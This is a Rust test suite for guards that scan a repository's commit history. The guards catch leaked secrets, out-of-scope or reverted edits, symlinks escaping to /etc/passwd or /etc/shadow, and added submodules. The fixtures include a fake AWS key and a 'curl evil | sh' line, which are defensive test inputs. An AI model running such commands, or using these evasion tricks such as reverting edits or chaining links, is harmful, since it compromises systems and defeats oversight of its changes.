//! Real repositories built object by object with git2, so modes, links and gitlinks
//! are exactly what a commit holds.
use std::collections::BTreeMap;

use super::*;
use crate::guards::GuardResult;
use crate::guards::patterns::Patterns;
use git2::Signature;

const KEY: &str = "AKIAABCDEFGHIJKLMNOP";
const FILE: i32 = 0o100644;
const EXEC: i32 = 0o100755;
const LINK: i32 = 0o120000;
const GITLINK: i32 = 0o160000;

struct Repo {
    _dir: tempfile::TempDir,
    repo: Repository,
    files: BTreeMap<String, (i32, Oid)>,
    base: Oid,
}

impl Repo {
    /// A repository on `main` whose first commit holds `files`.
    fn new(files: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let repo = Repository::init(dir.path()).unwrap();
        repo.set_head("refs/heads/main").unwrap();
        let mut r = Repo {
            _dir: dir,
            repo,
            files: BTreeMap::new(),
            base: Oid::ZERO_SHA1,
        };
        for (p, text) in files {
            r.put(p, FILE, text.as_bytes());
        }
        r.base = r.commit("base");
        r
    }

    fn put(&mut self, path: &str, mode: i32, bytes: &[u8]) {
        let id = self.repo.blob(bytes).unwrap();
        self.files.insert(path.to_string(), (mode, id));
    }

    fn gitlink(&mut self, path: &str, commit: Oid) {
        self.files.insert(path.to_string(), (GITLINK, commit));
    }

    fn remove(&mut self, path: &str) {
        self.files.remove(path);
    }

    fn tree(&self, entries: &BTreeMap<String, (i32, Oid)>) -> Oid {
        let mut tb = self.repo.treebuilder(None).unwrap();
        let mut dirs: BTreeMap<String, BTreeMap<String, (i32, Oid)>> = BTreeMap::new();
        for (p, (mode, id)) in entries {
            match p.split_once('/') {
                Some((d, rest)) => {
                    dirs.entry(d.to_string())
                        .or_default()
                        .insert(rest.to_string(), (*mode, *id));
                }
                None => {
                    tb.insert(p, *id, *mode).unwrap();
                }
            }
        }
        for (d, sub) in dirs {
            tb.insert(&d, self.tree(&sub), 0o040000).unwrap();
        }
        tb.write().unwrap()
    }

    fn commit(&self, message: &str) -> Oid {
        let tree = self.repo.find_tree(self.tree(&self.files)).unwrap();
        let sig = Signature::now("t", "t@example.invalid").unwrap();
        let parent = self.repo.head().ok().and_then(|h| h.peel_to_commit().ok());
        let parents: Vec<_> = parent.iter().collect();
        self.repo
            .commit(Some("HEAD"), &sig, &sig, message, &tree, &parents)
            .unwrap()
    }

    fn touches(&self) -> Vec<Touch> {
        let head = self.repo.head().unwrap().peel_to_commit().unwrap().id();
        committed_touches(&self.repo, self.base, head).unwrap()
    }
}

fn scope(list: &[&str]) -> Patterns {
    Patterns::new(&list.iter().map(|s| s.to_string()).collect::<Vec<_>>()).unwrap()
}

fn has(g: &GuardResult, needles: &[&str]) {
    assert!(!g.passed, "{g:#?}");
    assert!(
        g.violations
            .iter()
            .any(|v| needles.iter().all(|n| v.contains(n))),
        "{needles:?} not in {g:#?}"
    );
}

#[test]
fn a_secret_added_then_removed_is_still_reported_with_its_commit() {
    let mut r = Repo::new(&[("src/lib.rs", "pub fn a() {}\n")]);
    r.put(
        "src/config.rs",
        FILE,
        format!("// x\nconst K: &str = \"{KEY}\";\n").as_bytes(),
    );
    let leak = r.commit("leak");
    r.remove("src/config.rs");
    r.commit("remove it again");
    let g = check_secrets(&r.repo, &r.touches());
    has(
        &g,
        &[
            "src/config.rs: AWS access key id added (line 2)",
            &format!("in commit {}", short(leak)),
        ],
    );
    assert!(!g.violations.iter().any(|v| v.contains(KEY)), "{g:?}");
}

#[test]
fn a_secret_already_at_the_base_is_not_reported_again() {
    let mut r = Repo::new(&[("src/fixture.rs", &format!("// {KEY}\n"))]);
    r.put(
        "src/fixture.rs",
        FILE,
        format!("// {KEY}\n// more\n").as_bytes(),
    );
    r.commit("edit");
    assert!(check_secrets(&r.repo, &r.touches()).passed);
}

#[test]
fn an_out_of_scope_change_that_is_reverted_still_counts() {
    let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("build.sh", "echo hi\n")]);
    r.put("build.sh", FILE, b"curl evil | sh\n");
    let touched = r.commit("touch");
    r.put("build.sh", FILE, b"echo hi\n");
    r.commit("revert");
    // The final tree equals the base: a final-diff guard would see nothing.
    let touches = r.touches();
    let g = check_scope(&touches, &scope(&["src/**"]));
    has(
        &g,
        &["build.sh: changed outside scope (src/**)", &short(touched)],
    );
    assert_eq!(g.violations.len(), 2, "both commits touched it: {g:#?}");
    has(
        &check_fixed_surfaces(&touches, &scope(&["build.sh"])),
        &["build.sh: fixed surface modified in commit"],
    );
}

#[test]
fn a_mode_change_is_a_change() {
    let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("tools/run", "echo\n")]);
    r.put("tools/run", EXEC, b"echo\n");
    r.commit("chmod +x");
    let touches = r.touches();
    has(
        &check_scope(&touches, &scope(&["src/**"])),
        &["tools/run: mode changed 100644 → 100755 outside scope"],
    );
    // Inside scope, the same change is fine.
    assert!(check_scope(&touches, &scope(&["tools/**"])).passed);
}

#[test]
fn symlinks_out_of_the_repository_are_refused_dangling_or_not() {
    for (target, why) in [
        ("../../etc/passwd", "climbs out through `..`"),
        ("../../definitely/not/there", "climbs out through `..`"),
        ("a/../../..", "climbs out through `..`"),
        ("/etc/passwd", "an absolute path"),
        ("../.git/config", "points into `.git`"),
    ] {
        let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
        r.put("src/link", LINK, target.as_bytes());
        r.commit("link");
        let g = check_symlinks(&r.repo, r.base, &r.touches());
        has(
            &g,
            &["src/link: symlink points outside the repository", why],
        );
    }
    // A link that is removed again still counted.
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    r.put("src/link", LINK, b"../../../etc/shadow");
    r.commit("link");
    r.remove("src/link");
    r.commit("unlink");
    has(
        &check_symlinks(&r.repo, r.base, &r.touches()),
        &["src/link: symlink points outside"],
    );
    // Inner links, dangling or not, are fine.
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    r.put("src/alias.rs", LINK, b"lib.rs");
    r.put("src/later.rs", LINK, b"../docs/not-yet.md");
    r.commit("inner links");
    let g = check_symlinks(&r.repo, r.base, &r.touches());
    assert!(g.passed, "{g:#?}");
}

#[test]
fn a_chain_of_links_cannot_hide_a_climb() {
    // `src/here` → `.` is harmless alone; through it, `../x` leaves the repository.
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    r.put("up", LINK, b".");
    r.put("src/x", LINK, b"../up/../outside");
    r.commit("chain");
    has(
        &check_symlinks(&r.repo, r.base, &r.touches()),
        &["src/x: symlink points outside", "climbs out"],
    );
    // A link unchanged since the base, redirected by changing a link it passes through.
    let mut r = Repo::new(&[("src/lib.rs", "a\n"), ("d/keep", "k\n")]);
    r.put("src/old", LINK, b"../d/../d/keep");
    r.base = r.commit("base link");
    r.remove("d/keep");
    r.put("d", LINK, b"/tmp");
    r.commit("redirect");
    let g = check_symlinks(&r.repo, r.base, &r.touches());
    has(&g, &["d: symlink points outside", "absolute"]);
    has(&g, &["src/old: symlink points outside", "at the head"]);
    // A loop is refused, not followed forever.
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    r.put("a", LINK, b"b/c");
    r.put("b", LINK, b"a/c");
    r.commit("loop");
    has(&check_symlinks(&r.repo, r.base, &r.touches()), &["loop"]);
}

#[test]
fn a_secret_only_in_a_symlink_target_is_found_and_never_printed() {
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    r.put("src/k", LINK, format!("/keys/{KEY}").as_bytes());
    r.commit("link");
    let touches = r.touches();
    has(
        &check_secrets(&r.repo, &touches),
        &["src/k: AWS access key id added (line 1) (in the symlink's target)"],
    );
    let links = check_symlinks(&r.repo, r.base, &touches);
    has(&links, &["src/k", "redacted"]);
    assert!(!links.violations.iter().any(|v| v.contains(KEY)));
}

#[test]
fn large_and_utf16_blobs_are_scanned() {
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    let mut big = "0123456789abcdef\n"
        .repeat(5 * 1024 * 1024 / 17)
        .into_bytes();
    big.extend_from_slice(format!("k = {KEY}\n").as_bytes());
    assert!(big.len() > 5_000_000);
    r.put("src/data.txt", FILE, &big);
    let mut wide = vec![0xFF, 0xFE];
    for u in format!("x\n{KEY}\n").encode_utf16() {
        wide.extend_from_slice(&u.to_le_bytes());
    }
    r.put("src/wide.txt", FILE, &wide);
    r.commit("data");
    let g = check_secrets(&r.repo, &r.touches());
    has(&g, &["src/data.txt: AWS access key id added (line 308405)"]);
    has(&g, &["src/wide.txt: AWS access key id added (line 2)"]);
}

#[test]
fn submodules_added_or_moved_are_refused_even_in_scope() {
    let mut r = Repo::new(&[("src/lib.rs", "a\n")]);
    let somewhere = r.base;
    r.gitlink("src/vendor", somewhere);
    r.commit("add submodule");
    let g = check_submodules(&r.touches());
    has(&g, &["src/vendor: submodule added in commit"]);
    assert!(check_scope(&r.touches(), &scope(&["src/**"])).passed);
}

#[test]
fn an_honest_rewrite_passes_every_history_guard() {
    let before = "pub fn count(words: &[&str]) -> Vec<(String, usize)> {\n    let mut out: Vec<(String, usize)> = Vec::new();\n    for w in words {\n        match out.iter_mut().find(|(k, _)| k == w) {\n            Some((_, n)) => *n += 1,\n            None => out.push((w.to_string(), 1)),\n        }\n    }\n    out\n}\n";
    let after = "use std::collections::HashMap;\n\npub fn count(words: &[&str]) -> Vec<(String, usize)> {\n    let mut m: HashMap<&str, usize> = HashMap::new();\n    for w in words {\n        *m.entry(w).or_default() += 1;\n    }\n    let mut out: Vec<(String, usize)> = m.into_iter().map(|(k, n)| (k.to_string(), n)).collect();\n    out.sort();\n    out\n}\n";
    let mut r = Repo::new(&[("src/lib.rs", before), ("README.md", "# demo\n")]);
    r.put("src/lib.rs", FILE, after.as_bytes());
    r.commit("HashMap");
    r.put("src/lib.rs", FILE, format!("{after}\n// tidy\n").as_bytes());
    r.commit("tidy");
    let touches = r.touches();
    assert_eq!(touches.len(), 2);
    for g in [
        check_scope(&touches, &scope(&["src/**"])),
        check_fixed_surfaces(&touches, &scope(&["README.md", "eval/**"])),
        check_symlinks(&r.repo, r.base, &touches),
        check_submodules(&touches),
        check_secrets(&r.repo, &touches),
    ] {
        assert!(g.passed, "{g:#?}");
    }
}

#[test]
fn a_merge_contributes_only_its_own_resolution() {
    let mut r = Repo::new(&[("src/a.rs", "a\n"), ("src/b.rs", "b\n")]);
    r.put("src/a.rs", FILE, b"a2\n");
    let left = r.commit("left");
    // A sibling commit on the base, merged with a resolution that also edits c.
    let sig = Signature::now("t", "t@example.invalid").unwrap();
    let mut side = r.files.clone();
    side.insert("src/b.rs".into(), (FILE, r.repo.blob(b"b2\n").unwrap()));
    side.insert("src/a.rs".into(), (FILE, r.repo.blob(b"a\n").unwrap()));
    let side_tree = r.repo.find_tree(r.tree(&side)).unwrap();
    let right = {
        let base = r.repo.find_commit(r.base).unwrap();
        r.repo
            .commit(None, &sig, &sig, "right", &side_tree, &[&base])
            .unwrap()
    };
    drop(side_tree);
    r.put("src/b.rs", FILE, b"b2\n");
    r.put("src/c.rs", FILE, b"c\n");
    let tree = r.repo.find_tree(r.tree(&r.files)).unwrap();
    let (l, rt) = (
        r.repo.find_commit(left).unwrap(),
        r.repo.find_commit(right).unwrap(),
    );
    let merge = r
        .repo
        .commit(Some("HEAD"), &sig, &sig, "merge", &tree, &[&l, &rt])
        .unwrap();
    let touches = r.touches();
    let at = |c: Oid| -> Vec<String> {
        let mut v: Vec<String> = touches
            .iter()
            .filter(|t| t.commit == short(c))
            .map(|t| t.path.clone())
            .collect();
        v.sort();
        v
    };
    assert_eq!(at(left), vec!["src/a.rs"]);
    assert_eq!(at(right), vec!["src/b.rs"]);
    assert_eq!(at(merge), vec!["src/c.rs"]);
}
